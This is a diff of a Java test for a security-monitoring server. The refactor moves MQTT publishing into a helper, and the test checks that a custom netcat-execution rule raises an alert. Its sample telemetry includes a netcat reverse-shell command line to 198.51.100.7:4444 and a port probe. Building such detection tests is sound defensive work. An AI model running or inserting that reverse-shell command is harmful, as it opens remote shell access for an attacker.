@@ -7,12 +7,7 @@ import io.vigil.hub.registry.RegisteredDevice;
 import io.vigil.model.Alert;
 import io.vigil.model.event.EventHeader;
 import io.vigil.model.event.ProcessCreate;
-import io.vigil.model.event.SecurityMessage;
-import io.vigil.wire.SecurityMessageCodec;
-import io.vigil.wire.auth.DeviceTopics;
-import io.vigil.wire.auth.SasToken;
 import java.net.ServerSocket;
-import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Clock;
@@ -21,11 +16,6 @@ import java.time.ZoneOffset;
 import java.util.List;
 import java.util.Map;
 import java.util.concurrent.CopyOnWriteArrayList;
-import org.eclipse.paho.mqttv5.client.MqttClient;
-import org.eclipse.paho.mqttv5.client.MqttConnectionOptions;
-import org.eclipse.paho.mqttv5.client.persist.MemoryPersistence;
-import org.eclipse.paho.mqttv5.common.MqttMessage;
-import org.eclipse.paho.mqttv5.common.packet.MqttProperties;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -62,19 +52,10 @@ class UserRulesServerTest {
     List<Alert> alerts = new CopyOnWriteArrayList<>();
     try (VigilServer server = VigilServer.start(config, Clock.systemUTC(), alerts::add)) {
       RegisteredDevice gw = server.registry().create("gw-rules", null);
-      MqttClient client = new MqttClient("tcp://127.0.0.1:" + mqtt, "gw-rules", new MemoryPersistence());
-      MqttConnectionOptions o = new MqttConnectionOptions();
-      o.setUserName("localhost/gw-rules/?api-version=2021-04-12");
-      o.setPassword(SasToken.sign(SasToken.deviceResource("localhost", "gw-rules"), gw.primaryKey(), Instant.now().plusSeconds(600))
-          .toString().getBytes(StandardCharsets.UTF_8));
-      client.connect(o);
-      byte[] body = new SecurityMessageCodec().encode(SecurityMessage.of("1.0", "072f3eca-3db0-45ba-8174-fa383bc93caf", List.of(
+      TestDevice.publish(mqtt, gw, List.of(
           new ProcessCreate(EventHeader.at(Instant.now(), ZoneOffset.UTC), List.of(
               new ProcessCreate.Process("/usr/bin/nc.traditional", 77, 1, "0", "root", "nc.traditional -e /bin/sh 198.51.100.7 4444", Map.of()),
-              new ProcessCreate.Process("/usr/bin/nc", 78, 1, "0", "root", "nc -zv 10.0.0.1 22", Map.of()))))));
-      client.publish(DeviceTopics.securityTelemetry("gw-rules"), new MqttMessage(body, 1, false, new MqttProperties()));
-      client.disconnect();
-      client.close();
+              new ProcessCreate.Process("/usr/bin/nc", 78, 1, "0", "root", "nc -zv 10.0.0.1 22", Map.of())))));
       long deadline = System.currentTimeMillis() + 10_000;
       while (alerts.stream().noneMatch(a -> a.alertName().equals("Custom_NetcatExec")) && System.currentTimeMillis() < deadline) {
         Thread.sleep(50);
